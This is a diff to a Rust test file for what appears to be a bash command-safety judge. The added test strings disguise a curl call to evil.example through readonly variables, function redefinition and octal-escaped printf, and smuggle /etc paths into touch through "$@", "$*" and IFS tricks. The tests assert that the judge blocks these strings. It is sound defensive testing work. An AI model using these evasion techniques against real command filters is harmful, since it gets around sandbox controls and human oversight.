@@ -74,7 +74,10 @@ const PLACES: [&str; 47] = [
 ];
 
 /// A change through a chain of variables takes several rounds to arrive.
-const CHAINS: [&str; 9] = [
+const CHAINS: [&str; 12] = [
+    "readonly x=curl\nx=echo\n$x https://evil.example",
+    "declare -r x=curl\nx=echo\n$x https://evil.example",
+    "f() { curl \"$@\"; }; readonly -f f\nf() { echo; }\nf https://evil.example",
     "x=echo y=echo z=echo; for i in *; do $x https://evil.example; x=$y; y=$z; z=curl; done",
     "x=echo y=echo z=echo; n=0; while [ $n -lt 5 ]; do $x https://evil.example; x=$y; y=$z; z=curl; n=$((n+1)); done",
     "x=echo y=echo z=echo; n=0; g() { $x https://evil.example; x=$y; y=$z; z=curl; n=$((n+1)); [ $n -lt 6 ] && g; }; g",
@@ -257,4 +260,37 @@ fn braces_are_expanded_before_variables_are() {
     assert_eq!(judge("x=src; touch ${x}{a,b}"), Allow);
     assert_eq!(judge("touch f{1..3} {a,b}.txt"), Allow);
     assert_ne!(judge("touch {a,b}{1..600}"), Allow);
+}
+
+#[test]
+fn a_list_in_quotes_is_as_many_words_as_bash_makes_of_it() {
+    for text in [
+        "set -- b /etc/x; touch \"a$@\"",
+        "set -- b /etc/x; touch a\"$@\"",
+        "a=(b /etc/x); touch \"a${a[@]}\"",
+        "IFS=; set -- /etc / x; touch \"$*\"",
+        "IFS=/; set -- '' etc x; touch \"$*\"",
+        "IFS=$(cat f); set -- a b; touch \"$*\"",
+    ] {
+        assert_ne!(judge(text), Allow, "{text}");
+    }
+    for text in ["set -- a b; touch \"$*\"", "set -- a b; touch \"$@\"", "a=(b c); touch \"src/${a[@]}\""] {
+        assert_eq!(judge(text), Allow, "{text}");
+    }
+}
+
+#[test]
+fn what_is_printed_is_what_this_shell_prints() {
+    for text in [
+        "$(printf '\\143url') https://evil.example",
+        "$(echo -e '\\0143url') https://evil.example",
+        // A shell that is no bash, or is told to, reads the backslash without being asked.
+        "sh -c 'touch \"$(echo \"\\0057etc/x\")\"'",
+        "shopt -s xpg_echo; touch \"$(echo '\\0057etc/x')\"",
+    ] {
+        assert_ne!(judge(text), Allow, "{text}");
+    }
+    for text in ["touch \"$(printf '%s-%s' a b)\"", "for i in 1 2; do touch \"$(printf 'f%03d' $i)\"; done"] {
+        assert_eq!(judge(text), Allow, "{text}");
+    }
 }
